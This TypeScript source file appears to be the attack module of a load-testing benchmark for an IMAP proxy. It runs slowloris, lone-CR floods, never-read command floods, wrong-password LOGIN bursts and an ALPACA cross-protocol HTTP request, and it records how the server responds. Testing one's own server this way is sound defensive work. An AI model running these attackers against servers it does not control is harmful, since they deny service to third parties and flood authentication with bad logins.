// The attackers of `--attack` (issue 13), each run in a load process of its own for a fixed time
// and summarised there: how many connections, refused at connect, greeting refused (a BYE),
// closed by the server and after how long, still open when the phase ended, the delay of the
// answers (wrong passwords), and what was answered. Raw sockets: no attacker reads like a client.
import * as net from 'node:net';
import type { AttackKind, AttackParams } from '../attackParams.js';

export interface AttackJob {
  kind: 'attack';
  attack: AttackKind;
  host: string;
  port: number;
  durationMs: number;
  params: AttackParams;
  /** a real user name (wrong passwords are tried against it) */
  user: string;
  /** slowloris: the connections of this process */
  connections?: number;
}

export interface AttackSummary {
  kind: 'attack';
  attack: AttackKind;
  connections: number;
  refusedAtConnect: number;
  /** connects neither accepted nor refused when the phase ended (the accept queue is full) */
  pendingAtConnect: number;
  /** time from the connection to the greeting, for each greeted connection (ms) */
  greetingDelayMs: number[];
  /** connected, but no greeting came */
  notGreeted: number;
  greetingRefused: number;
  closedByServer: number;
  /** for each connection the server closed: how long after it was opened (ms) */
  closedAfterMs: number[];
  /** open when the phase ended (or when the attacker gave up waiting) */
  stillOpen: number;
  /** writes blocked because the server stopped reading, when the phase ended */
  stalled: number;
  /** wrong passwords: time from the LOGIN to its answer (ms) */
  answerDelayMs: number[];
  /** wrong passwords: LOGINs not answered when the phase ended */
  unanswered: number;
  bytesSent: number;
  bytesReceived: number;
  /** ALPACA: answers that echo a marker of the HTTP request */
  reflected: number;
  /** a few distinct lines the server answered (after its greeting) */
  answers: string[];
  errors: string[];
  /** CPU time this attacker's load process spent (µs): what the attack cost us, not the proxy */
  cpuMicros: number;
  /** how long it ran (ms) */
  elapsedMs: number;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function emptySummary(job: AttackJob): AttackSummary {
  return {
    kind: 'attack',
    attack: job.attack,
    connections: 0,
    refusedAtConnect: 0,
    pendingAtConnect: 0,
    greetingDelayMs: [],
    notGreeted: 0,
    greetingRefused: 0,
    closedByServer: 0,
    closedAfterMs: [],
    stillOpen: 0,
    stalled: 0,
    answerDelayMs: [],
    unanswered: 0,
    bytesSent: 0,
    bytesReceived: 0,
    reflected: 0,
    answers: [],
    errors: [],
    cpuMicros: 0,
    elapsedMs: 0,
  };
}

/**
 * One attacker connection: counts bytes, keeps the greeting and the first lines after it,
 * notices whether the server closed it (rather than us) and when.
 */
class Tracked {
  readonly socket: net.Socket;
  readonly opened = Date.now();
  connected = false;
  greeting: string | undefined;
  greetedAt: number | undefined;
  lines: string[] = [];
  received = Buffer.alloc(0);
  bytesIn = 0;
  bytesOut = 0;
  closedByServerAt: number | undefined;
  ours = false;
  closed = false;
  error: string | undefined;
  private lineWaiters: (() => void)[] = [];

  constructor(
    host: string,
    port: number,
    local: string,
    private readonly keep = 4096,
  ) {
    this.socket = net.connect({ host, port, localAddress: local });
    this.socket.on('connect', () => {
      this.connected = true;
    });
    this.socket.on('data', (chunk: Buffer) => this.onData(chunk));
    this.socket.on('error', (e) => {
      this.error = (e as NodeJS.ErrnoException).code ?? e.message;
    });
    this.socket.on('close', () => {
      this.closed = true;
      if (!this.ours && this.connected) this.closedByServerAt = Date.now();
      this.wake();
    });
  }

  private onData(chunk: Buffer): void {
    this.bytesIn += chunk.length;
    if (this.received.length < this.keep) {
      this.received = Buffer.concat([this.received, chunk.subarray(0, this.keep)]);
      const text = this.received.toString('latin1');
      const all = text.split('\r\n');
      all.pop();
      if (this.greeting === undefined && all.length > 0) {
        this.greeting = all[0];
        this.greetedAt = Date.now();
      }
      this.lines = all.slice(1);
    }
    this.wake();
  }

  private wake(): void {
    for (const w of this.lineWaiters.splice(0)) w();
  }

  /** Wait until `test` holds, the connection closes, or `ms` pass. */
  async until(test: () => boolean, ms: number): Promise<boolean> {
    const deadline = Date.now() + ms;
    while (!test() && !this.closed && Date.now() < deadline) {
      await Promise.race([
        new Promise<void>((r) => this.lineWaiters.push(r)),
        sleep(Math.max(0, deadline - Date.now())),
      ]);
    }
    return test();
  }

  /** Resolves once connected (true) or failed (false). */
  connectedOrFailed(ms: number): Promise<boolean> {
    if (this.connected) return Promise.resolve(true);
    return new Promise((resolve) => {
      const timer = setTimeout(() => resolve(false), ms);
      this.socket.once('connect', () => {
        clearTimeout(timer);
        resolve(true);
      });
      this.socket.once('close', () => {
        clearTimeout(timer);
        resolve(this.connected);
      });
    });
  }

  write(data: string | Buffer): boolean {
    if (this.closed) return false;
    this.bytesOut += data.length;
    return this.socket.write(data);
  }

  /** Wait for 'drain' (true), or the close / the deadline (false). */
  drained(until: number): Promise<boolean> {
    return new Promise((resolve) => {
      const timer = setTimeout(() => done(false), Math.max(0, until - Date.now()));
      const onDrain = (): void => done(true);
      const onClose = (): void => done(false);
      const done = (v: boolean): void => {
        clearTimeout(timer);
        this.socket.off('drain', onDrain);
        this.socket.off('close', onClose);
        resolve(v);
      };
      this.socket.once('drain', onDrain);
      this.socket.once('close', onClose);
    });
  }

  end(): void {
    this.ours = true;
    this.socket.destroy();
  }

  greetingRefused(): boolean {
    return this.greeting !== undefined && !this.greeting.startsWith('* OK');
  }
}

/** Attackers that do not wait for (or cannot see) the greeting. */
const expectsNoGreeting = new Set<AttackKind>(['noread']);

/** Fold one finished connection into the summary. */
function account(s: AttackSummary, t: Tracked, stillOpen: boolean): void {
  s.connections++;
  s.bytesSent += t.bytesOut;
  s.bytesReceived += t.bytesIn;
  if (!t.connected) {
    if (t.error === undefined) {
      s.pendingAtConnect++;
      return;
    }
    s.refusedAtConnect++;
    if (s.errors.length < 3 && !s.errors.includes(t.error)) s.errors.push(t.error);
    return;
  }
  if (t.greetedAt !== undefined) s.greetingDelayMs.push(t.greetedAt - t.opened);
  else if (!expectsNoGreeting.has(s.attack)) s.notGreeted++;
  if (t.greetingRefused()) s.greetingRefused++;
  for (const line of t.lines) {
    const short = line.slice(0, 80);
    if (s.answers.length < 4 && !s.answers.includes(short)) s.answers.push(short);
  }
  if (t.greetingRefused() && s.answers.length < 4 && t.greeting !== undefined) {
    const short = t.greeting.slice(0, 80);
    if (!s.answers.includes(short)) s.answers.push(short);
  }
  if (t.closedByServerAt !== undefined) {
    s.closedByServer++;
    s.closedAfterMs.push(t.closedByServerAt - t.opened);
  } else if (stillOpen) s.stillOpen++;
}

// ---------------------------------------------------------------- slowloris

async function slowloris(job: AttackJob, s: AttackSummary): Promise<void> {
  const p = job.params.slowloris;
  const stopAt = Date.now() + job.durationMs;
  const count = job.connections ?? p.connections;
  const conns: Tracked[] = [];
  const timers: NodeJS.Timeout[] = [];
  const open = (): void => {
    const t = new Tracked(job.host, job.port, p.source, 512);
    conns.push(t);
    void (async () => {
      if (!(await t.connectedOrFailed(10_000))) return;
      await t.until(() => t.greeting !== undefined, 10_000);
      if (t.closed) return;
      t.write(p.partial);
      // first drip at a random moment, so the drips spread evenly
      const first = setTimeout(() => {
        const drip = setInterval(() => {
          if (t.closed) clearInterval(drip);
          else t.write('x');
        }, p.dripMs);
        timers.push(drip);
        if (!t.closed) t.write('x');
      }, Math.random() * p.dripMs);
      timers.push(first);
    })();
  };
  const perTick = Math.max(1, Math.round(p.openPerSecond / 100));
  while (conns.length < count && Date.now() < stopAt) {
    for (let i = 0; i < perTick && conns.length < count; i++) open();
    await sleep(10);
  }
  await sleep(Math.max(0, stopAt - Date.now()));
  for (const timer of timers) clearTimeout(timer);
  for (const t of conns) {
    account(s, t, !t.closed);
    t.end();
  }
}

// ---------------------------------------------------------------- lone CRs

async function loneCr(job: AttackJob, s: AttackSummary): Promise<void> {
  const p = job.params.lonecr;
  const block = Buffer.alloc(64 * 1024, 0x0d);
  await floodAgainAndAgain(job, s, {
    source: p.source,
    connections: p.connections,
    block,
    blockMs: (block.length / (p.mebibytesPerSecond * 1024 * 1024)) * 1000,
    maxBytes: p.mebibytes * 1024 * 1024,
    start: async (t) => {
      await t.until(() => t.greeting !== undefined, 10_000);
      t.write('a NOOP');
    },
    // what the server makes of it: an answer, a close, or nothing
    finish: async (t, stopAt) => {
      await t.until(() => t.lines.length > 0, Math.min(2000, Math.max(0, stopAt - Date.now())));
    },
  });
}

// ---------------------------------------------------------------- commands, never read

async function noRead(job: AttackJob, s: AttackSummary): Promise<void> {
  const p = job.params.noread;
  const block = Buffer.from(p.commands.repeat(Math.ceil(16384 / p.commands.length)), 'latin1');
  await floodAgainAndAgain(job, s, {
    source: p.source,
    connections: p.connections,
    block,
    blockMs: (block.length / (p.kibPerSecond * 1024)) * 1000,
    maxBytes: Number.POSITIVE_INFINITY,
    // never read: Node stops reading from the kernel once its 16 KiB buffer is full
    start: (t) => {
      t.socket.pause();
      return Promise.resolve();
    },
  });
}

/**
 * `connections` floods at once for the job's duration: each connects, `start`s, sends `block`
 * every `blockMs` until the server closes it, `maxBytes` are sent or its writes stay blocked,
 * then (`finish`, if it was not blocked or closed) is accounted and comes back on a new connection.
 */
async function floodAgainAndAgain(
  job: AttackJob,
  s: AttackSummary,
  o: {
    source: string;
    connections: number;
    block: Buffer;
    blockMs: number;
    maxBytes: number;
    start: (t: Tracked) => Promise<void>;
    finish?: (t: Tracked, stopAt: number) => Promise<void>;
  },
): Promise<void> {
  const stopAt = Date.now() + job.durationMs;
  const one = async (): Promise<void> => {
    while (Date.now() < stopAt) {
      const t = new Tracked(job.host, job.port, o.source);
      if (!(await t.connectedOrFailed(10_000))) {
        account(s, t, false);
        await sleep(100);
        continue;
      }
      await o.start(t);
      let sent = 0;
      let blocked = false;
      const began = Date.now();
      while (sent < o.maxBytes && !t.closed && Date.now() < stopAt) {
        sent += o.block.length;
        if (!t.write(o.block) && !(await t.drained(stopAt))) {
          blocked = !t.closed;
          break;
        }
        await sleep(Math.max(0, began + (sent / o.block.length) * o.blockMs - Date.now()));
      }
      if (!t.closed && !blocked) await o.finish?.(t, stopAt);
      if (blocked) s.stalled++;
      account(s, t, !t.closed);
      t.end();
      if (Date.now() < stopAt) await sleep(50);
    }
  };
  await Promise.all(Array.from({ length: o.connections }, one));
}

// ---------------------------------------------------------------- wrong passwords

async function wrongPasswords(job: AttackJob, s: AttackSummary): Promise<void> {
  const p = job.params.wrongpass;
  const stopAt = Date.now() + job.durationMs;
  let inFlight = 0;
  const pending: Promise<void>[] = [];
  const attempt = async (n: number): Promise<void> => {
    inFlight++;
    const t = new Tracked(job.host, job.port, p.source);
    try {
      if (!(await t.connectedOrFailed(10_000))) {
        account(s, t, false);
        return;
      }
      await t.until(() => t.greeting !== undefined, Math.max(0, stopAt - Date.now()));
      if (t.greeting === undefined || t.greetingRefused() || t.closed) {
        account(s, t, !t.closed);
        return;
      }
      const sent = Date.now();
      t.write(`w${n} LOGIN ${job.user} wrong-password-${n}\r\n`);
      const answered = await t.until(
        () => t.lines.some((l) => l.startsWith(`w${n} `)),
        Math.max(0, stopAt - Date.now()),
      );
      if (answered) s.answerDelayMs.push(Date.now() - sent);
      else if (!t.closed) s.unanswered++;
      // an unanswered LOGIN is counted as such, not again as an open connection
      account(s, t, false);
    } finally {
      t.end();
      inFlight--;
    }
  };
  let n = 0;
  const every = 1000 / p.perSecond;
  const t0 = Date.now();
  while (Date.now() < stopAt) {
    if (inFlight < p.maxInFlight) pending.push(attempt(n));
    n++;
    await sleep(Math.max(0, t0 + n * every - Date.now()));
  }
  await Promise.all(pending);
}

// ---------------------------------------------------------------- ALPACA

export const ALPACA_MARKER = 'mmpbench-alpaca';

/** An HTTP request a browser could be made to send to the IMAP port (ALPACA, 2021). */
export function alpacaRequest(host: string): string {
  const body = `<script>${ALPACA_MARKER}()</script>\r\na LOGIN x y\r\n`;
  return [
    `POST /${ALPACA_MARKER} HTTP/1.1`,
    `Host: ${host}`,
    'Content-Type: text/html',
    `Content-Length: ${Buffer.byteLength(body)}`,
    '',
    body,
  ].join('\r\n');
}

async function alpaca(job: AttackJob, s: AttackSummary): Promise<void> {
  const p = job.params.alpaca;
  const stopAt = Date.now() + job.durationMs;
  const pending: Promise<void>[] = [];
  const one = async (): Promise<void> => {
    const t = new Tracked(job.host, job.port, p.source, 16384);
    if (!(await t.connectedOrFailed(10_000))) {
      account(s, t, false);
      return;
    }
    t.write(alpacaRequest(job.host));
    await t.until(() => false, Math.min(p.waitMs, Math.max(0, stopAt - Date.now())));
    // IMAP servers that echo a bad command often upper-case it
    if (t.lines.some((l) => l.toLowerCase().includes(ALPACA_MARKER))) s.reflected++;
    account(s, t, !t.closed);
    t.end();
  };
  while (Date.now() < stopAt) {
    pending.push(one());
    await sleep(p.everyMs);
  }
  await Promise.all(pending);
}

export async function runAttack(job: AttackJob): Promise<AttackSummary> {
  const s = emptySummary(job);
  const cpu0 = process.cpuUsage();
  const t0 = Date.now();
  switch (job.attack) {
    case 'slowloris':
      await slowloris(job, s);
      break;
    case 'lonecr':
      await loneCr(job, s);
      break;
    case 'noread':
      await noRead(job, s);
      break;
    case 'wrongpass':
      await wrongPasswords(job, s);
      break;
    case 'alpaca':
      await alpaca(job, s);
      break;
  }
  const cpu = process.cpuUsage(cpu0);
  s.cpuMicros = cpu.user + cpu.system;
  s.elapsedMs = Date.now() - t0;
  return s;
}
